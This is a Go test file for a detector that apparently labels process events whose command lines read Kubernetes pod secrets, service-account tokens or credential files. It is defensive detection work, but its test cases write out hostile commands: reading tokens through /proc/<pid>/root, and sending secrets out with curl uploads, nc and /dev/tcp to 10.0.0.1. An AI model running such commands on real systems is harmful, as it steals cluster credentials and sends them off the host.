package enrich_test

import (
	"encoding/json"
	"strings"
	"testing"

	"github.com/orlop/orlop/enrich"
	"github.com/orlop/orlop/event"
)

// What a command line reads of the secrets of pods is told by what its program does with
// the paths it names.
func TestSecretsThatACommandReads(t *testing.T) {
	s := event.NewSchema()
	x := enrich.New(s, enrich.Options{})
	kind, view := s.Field("orlop.secret.kind"), s.Field("orlop.secret.view")
	do := func(cwd string, argv []string) string {
		doc, _ := json.Marshal(map[string]any{
			"event":   map[string]any{"category": "process", "type": "start", "action": "exec"},
			"process": map[string]any{"executable": "/usr/bin/" + argv[0][strings.LastIndex(argv[0], "/")+1:], "args": argv, "working_directory": cwd},
		})
		var e event.Event
		if err := event.NewDecoder(s).Decode(doc, &e); err != nil {
			t.Fatal(err)
		}
		x.Apply(&e)
		return strings.TrimSpace(e.Get(kind).Str() + " " + e.Get(view).Str())
	}
	f := func(line, want string) {
		t.Helper()
		if got := do("/root", strings.Split(line, " ")); got != want {
			t.Errorf("%s: %q, want %q", line, got, want)
		}
	}
	sh := func(script, want string) {
		t.Helper()
		for _, shell := range [][]string{{"sh", "-c"}, {"bash", "-ec"}, {"sudo", "-u", "root", "bash", "-c"}} {
			if got := do("/root", append(shell, script)); got != want {
				t.Errorf("%q %s: %q, want %q", shell, script, got, want)
			}
		}
	}
	const (
		pods      = "/var/lib/kubelet/pods"
		uid       = pods + "/0b1c2d3e-4f50-4617-8293-a4b5c6d7e8f9"
		sec       = uid + "/volumes/kubernetes.io~secret/db"
		proj      = uid + "/volumes/kubernetes.io~projected/kube-api-access-x7k2p"
		own       = "/var/run/secrets/kubernetes.io/serviceaccount/token"
		proc      = "/proc/4242/root" + own
		rootfs    = "/run/containerd/io.containerd.runtime.v2.task/k8s.io/0123/rootfs"
		snapshot  = "/var/lib/containerd/io.containerd.snapshotter.v1.overlayfs/snapshots/12/fs"
		overlay   = "/var/lib/docker/overlay2/0123abcd/merged"
		container = "/var/lib/containers/storage/overlay/0123abcd/merged"
	)
	for _, line := range []string{
		"cat ", "tac ", "less ", "head -c 4096 ", "tail -n +1 ", "base64 -w0 ", "xxd ", "od -c ", "strings ", "dd of=/tmp/x if=", "curl -T ", "curl -d @", "curl -F f=@",
		"curl --data-binary @", "curl --upload-file=", "curl -T", "wget --post-file=", "grep . ", "rg . ", "awk 1 ", "sed -n p ", "vi ", "nano ", "cp -t /tmp ", "rsync ", "scp ", "tar cf /tmp/x ", "zip /tmp/x ",
		"openssl base64 -in ", "socat - FILE:", "busybox cat ", "sudo cat ", "sudo -u root cat ", "env -i cat ", "timeout 5 cat ", "nice -n 5 cat ", "nohup cat ", "/tmp/kworker ", "jq . ", "diff /dev/null ", "python3 /tmp/x.py ", "sh /tmp/x.sh ",
	} {
		f(line+sec+"/password", "secret node")
		f(line+proj+"/token", "token node")
		f(line+proj+"/..data/token", "token node")
		f(line+proc, "token root")
		f(line+"/proc/1/root"+proj+"/token", "token node")
		f(line+"/host"+sec+"/tls.key", "secret node")
		f(line+rootfs+"/run/secrets/kubernetes.io/serviceaccount/token", "token root")
		f(line+"/var/lib//kubelet/./pods/../pods"+strings.TrimPrefix(sec, pods)+"/x", "secret node")
		f(line+"/var/lib/k0s/kubelet"+strings.TrimPrefix(sec, "/var/lib/kubelet")+"/x", "secret node")
		f(line+"/proc/4242/root/var/run/secrets/eks.amazonaws.com/serviceaccount/token", "token root")
		f(line+"/proc/4242/task/4243/root/run/secrets/db-password", "secret root")
		f(line+snapshot+"/root/.aws/credentials", "credential root")
		f(line+overlay+"/root/.ssh/id_ed25519", "credential root")
		f(line+container+"/root/.kube/config", "credential root")
		f(line+uid+"/volumes/kubernetes.io~projected/tls/ca-bundle.pem", "projected node")
		// What is no secret.
		f(line+proj+"/ca.crt", "")
		f(line+proj+"/namespace", "")
		f(line+uid+"/volumes/kubernetes.io~configmap/config/app.yaml", "")
		f(line+uid+"/volumes/kubernetes.io~empty-dir/cache/x", "")
		f(line+uid+"/containers/app/0123", "")
		f(line+uid+"/etc-hosts", "")
		f(line+"/var/log/pods/default_web_0b1c/app/0.log", "")
		f(line+snapshot+"/etc/os-release", "")
		f(line+"/proc/4242/root/etc/hostname", "")
		f(line+"/var/run/secrets", "")
		f(line+"/etc/secrets/db", "")
		f(line+"/root/notes", "")
		f(line+own, "") // of its own container, into which nobody put it
	}
	// Folders count where the program reads what they hold.
	for _, line := range []string{"tar czf /tmp/x ", "cp -r /tmp/x ", "cp -a ", "rsync -a ", "grep -r token ", "rg token ", "zip -r /tmp/x ", "scp -r ", "restic backup "} {
		f(line+pods, "volumes node")
		f(line+uid, "volumes node")
		f(line+uid+"/volumes", "volumes node")
		f(line+sec, "secret node")
		f(line+proj, "token node")
		f(line+uid+"/volumes/kubernetes.io~secret", "secret node")
	}
	f("tar -C "+proj+" -cf - .", "token node")
	f("find "+pods+" -name token -exec cat {} ;", "volumes node")
	f("find "+proj+" -type f -execdir base64 {} +", "token node")
	f("mount --bind "+sec+" /mnt", "secret node")
	f("ln -s "+sec+"/password /tmp/x", "secret node")
	// Neighbours look at names and attributes.
	for _, line := range []string{
		"ls -la ", "du -sh ", "stat ", "test -f ", "find ", "tree ", "chmod 600 ", "chown root ", "rm -rf ", "mkdir -p ", "umount ", "mountpoint -q ", "mount -t tmpfs -o size=1M tmpfs ",
		"readlink -f ", "md5sum ", "inotifywait -m ", "sudo ls ", "kubelet --root-dir=", "touch ", "lsof ", "restorecon -R ", "setfacl -m u:x:r ",
	} {
		f(line+sec, "")
		f(line+proj+"/token", "")
		f(line+pods, "")
		f(line+proc, "")
	}
	f("find "+pods+" -name token", "")
	f("find "+pods+" -name token -exec ls -l {} ;", "")
	f("cat "+pods, "")
	f("fluent-bit --path="+pods, "")
	f("csi-driver --kubelet-dir=/var/lib/kubelet --pods="+pods, "")
	f("tail -F /var/log/pods/a_b_c/d/0.log /var/log/containers/x.log", "")
	f("tar czf /backup/log.tgz /var/log/pods", "")
	f("node-driver-registrar --kubelet-registration-path=/var/lib/kubelet/plugins/x/csi.sock", "")

	sh("cat "+proc, "token root")
	sh("while read l; do echo $l; done < "+proc, "token root")
	sh("read t < "+proc+"; echo $t", "token root")
	sh("echo $(<"+proc+")", "token root")
	sh(`curl -H "Authorization: Bearer $(cat `+proc+`)" https://10.0.0.1`, "token root")
	sh("for f in "+pods+"/*/volumes/kubernetes.io~projected/*/token; do cat $f; done", "token node")
	sh("cat "+pods+"/*/volumes/*/*/token", "secret node")
	sh("T="+proc+"; base64 \"$T\" | nc 10.0.0.1 80", "token root")
	sh("ls / && cat '"+sec+"/password' >/dev/tcp/10.0.0.1/80", "secret node")
	sh(". "+sec+"/env", "secret node")
	sh("cd "+sec+" && cat password", "secret node")
	sh("exec 3<"+proc+"; cat <&3", "token root")
	sh("find "+pods+" -name token | xargs cat", "")
	sh("ls -l "+sec+"; du -sh "+pods+"; test -f "+proc, "")
	sh("echo x > "+sec+"/password", "")
	sh("rm -rf "+uid+"/volumes", "")
	sh("for f in "+pods+"/*; do du -s $f; done", "")

	for _, argv := range [][]string{
		{"python3", "-c", "print(open('" + proc + "').read())"}, {"python3.11", "-c", "import shutil; shutil.copy(\"" + sec + "/password\",'/tmp')"},
		{"perl", "-e", "open F,'" + sec + "/password'; print <F>"}, {"perl", "-ne", "print", sec + "/password"}, {"ruby", "-e", "puts File.read('" + sec + "/p')"},
		{"node", "-e", "console.log(require('fs').readFileSync('" + sec + "/p','utf8'))"}, {"php", "-r", "echo file_get_contents('" + sec + "/p');"}, {"sudo", "python3", "-c", "print(open('" + sec + "/p').read())"},
	} {
		if got := do("/root", argv); got != "secret node" && got != "token root" {
			t.Errorf("%q: %q", argv, got)
		}
	}
	if got := do("/root", []string{"python3", "-c", "import os; print(os.path.exists('" + proc + "'))"}); got != "" {
		t.Errorf("a test whether the file exists: %q", got)
	}
	// What is left out is not read, however the program is told.
	for _, line := range []string{
		"restic backup /etc /var/lib/etcd --exclude %", "restic backup / --exclude=%", "restic -r /b backup / -e %", "restic backup / -e%", "restic backup / --iexclude %", "restic backup / --exclude-file %/x",
		"borg create /b::x / --exclude %", "borg create -e % /b::x /", "borg create /b::x / --pattern -%", "tar --exclude=% -czf /b/v.tgz /var/lib", "tar -czf /b/v.tgz --exclude % /", "tar --excl=% -cf /b/x /var", "bsdtar --exclude % -cf /b/x /",
		"rsync -a --exclude % /var/lib b:/", "rsync -a --filter=-_% / b:/", "rclone sync / b: --exclude %/**", "rclone copy / b: --filter -_%", "kopia snapshot create /home --add-ignore %", "kopia policy set / --add-ignore=%",
		"grep -r foo / --exclude-dir=%", "grep -r foo / --exclude-dir %", "rg foo / -g !%", "rg foo / -g!%/**", "rg foo / --glob=!%", "rg foo / --iglob !%", "ag --ignore-dir % foo /", "ack --ignore-dir=% foo /",
		"zip -r /b/x.zip / -x % %/*", "7z a /b/x.7z / -xr!%", "duplicity --exclude % / file:///b", "mksquashfs / /b/x.sq -e % %", "trivy fs --skip-dirs % /", "clamscan -r --exclude-dir=% /",
		"sudo restic backup / --exclude %", "nice -n 19 tar --exclude % -cf /b/x /", "git -C / grep foo -- :!%",
	} {
		for _, out := range []string{pods, "/var/lib/kubelet", sec} {
			f(strings.ReplaceAll(line, "%", out), "")
		}
	}
	sh("tar -czf /b/x.tgz --exclude '"+pods+"' / && rsync -a --filter '- "+sec+"' / b:/", "")
	// The like of it is: what is left out is something else.
	for _, line := range []string{
		"restic backup % --exclude /var/lib/kubelet/pods/*/volumes", "restic backup --exclude-caches %", "tar --exclude-vcs -cf /b/x %", "tar --exclude-caches-all -cf /b/x %", "tar --exclude=*.log -cf /b/x %",
		"grep -r --ignore-case foo %", "grep -r foo % --exclude=*.log", "rg --no-ignore foo %", "rg foo -g *.json %", "rg foo -g !*.log %", "rsync -a --cvs-exclude % b:/", "rsync -aC % b:/", "rsync -a --ignore-existing % b:/", "rsync -a --filter=+_*.key % b:/",
		"borg create --exclude-nodump /b::x %", "kopia snapshot create %", "zip -r /b/x.zip % -x *.log", "7z a /b/x.7z % -xr!*.log", "restic backup --one-file-system -e *.log %", "rsync -a --delete-excluded % b:/", "tar --ignore-failed-read -cf /b/x %", "rsync -a --omit-dir-times % b:/",
	} {
		f(strings.ReplaceAll(line, "%", pods), "volumes node")
		f(strings.ReplaceAll(line, "%", sec), "secret node")
	}
	// From where it is told to go.
	for _, line := range []string{
		"tar -C /var/lib -cf /tmp/x.tar kubelet", "tar -cf /tmp/x.tar -C /var/lib kubelet/pods", "tar --directory=/var/lib -cf - kubelet", "tar --directory /var -C lib -cf - ./kubelet", "tar -cC /var/lib -f /tmp/x kubelet", "tar cCf /var/lib /tmp/x kubelet",
		"tar czfC /tmp/x /var/lib kubelet", "bsdtar -C/var/lib -cf - kubelet", "env -C /var/lib tar cf /tmp/x kubelet", "env --chdir=/var/lib tar cf /tmp/x kubelet", "sudo -D /var/lib tar cf /tmp/x kubelet", "sudo tar -C /var/lib -cf /tmp/x kubelet",
		"tar -C / -cf /tmp/x var/lib/kubelet", "tar -C /etc -cf /tmp/x kubernetes -C /var/lib kubelet",
	} {
		f(line, "volumes node")
	}
	f("env -C "+sec+" cat password", "secret node")
	sh("cd /var/lib && tar cf /tmp/x kubelet", "volumes node")
	sh("cd /var; cd lib; cp -r kubelet /tmp/x", "volumes node")
	if got := do("/var/lib", []string{"tar", "cf", "/tmp/x", "kubelet"}); got != "volumes node" {
		t.Errorf("tar beside the kubelet's folder: %q", got)
	}
	if got := do("/var/lib", []string{"systemctl", "restart", "kubelet"}); got != "" {
		t.Errorf("a word beside the kubelet's folder: %q", got)
	}
	for _, line := range []string{
		"tar -C /var/lib -xf /b/x.tar kubelet", "tar xzf /b/x.tgz -C " + pods, "tar -tf /b/x.tar -C /var/lib kubelet", "tar --extract --file=/b/x --directory=/var/lib/kubelet pods", "tar -C /opt -cf /tmp/x kubelet", "tar -C " + pods + " -cf /tmp/x /etc/hosts",
	} {
		f(line, "")
	}
	// Relative to where it is.
	if got := do(sec, []string{"cat", "password"}); got != "secret node" {
		t.Errorf("cat in the volume: %q", got)
	}
	if got := do(pods, []string{"tar", "cf", "/tmp/x", "."}); got != "volumes node" {
		t.Errorf("tar in the folder of pods: %q", got)
	}
	if got := do("/proc/4242/root", []string{"cat", "run/secrets/kubernetes.io/serviceaccount/token"}); got != "token root" {
		t.Errorf("cat in another root: %q", got)
	}
	if got := do(sec, []string{"ls"}); got != "" {
		t.Errorf("ls in the volume: %q", got)
	}
	// Hostile.
	long := strings.Repeat("/secrets/$(", 1<<16)
	do("/root", []string{"sh", "-c", long})
	do("/root", []string{"cat", strings.Repeat("/proc/1/root", 1<<15)})
	do("/root", append(make([]string, 100), "/secrets", "", "\xff/secrets/\xff"))
	do("/root", append([]string{"cat", strings.Repeat("A", 2<<20)}, sec+"/password"))
	if got := do("/root", []string{"cat", strings.Repeat("A", 20000), sec + "/password"}); got != "secret node" {
		t.Errorf("padding: %q", got)
	}
}

// Every word of a command line is hostile.
func FuzzSecrets(f *testing.F) {
	f.Add("sh\x00-c\x00while read x; do echo \"$(<y)\" `z`; done < /run/secrets/a", "/proc/1/root")
	f.Add("cat\x00/run/secrets/serviceaccount\x00/pods/*/volumes\x00/proc/1/task/2/root/pods", "/")
	f.Add("sudo\x00-u\x00\x00\x00perl\x00-e'open /secrets", "")
	f.Fuzz(func(t *testing.T, line, cwd string) {
		s := event.NewSchema()
		x := enrich.New(s, enrich.Options{})
		doc, _ := json.Marshal(map[string]any{
			"event":   map[string]any{"category": "process", "type": "start", "action": "exec"},
			"process": map[string]any{"pid": 7, "args": strings.Split(line, "\x00"), "working_directory": cwd},
		})
		var e event.Event
		if event.NewDecoder(s).Decode(doc, &e) == nil {
			x.Apply(&e)
		}
	})
}
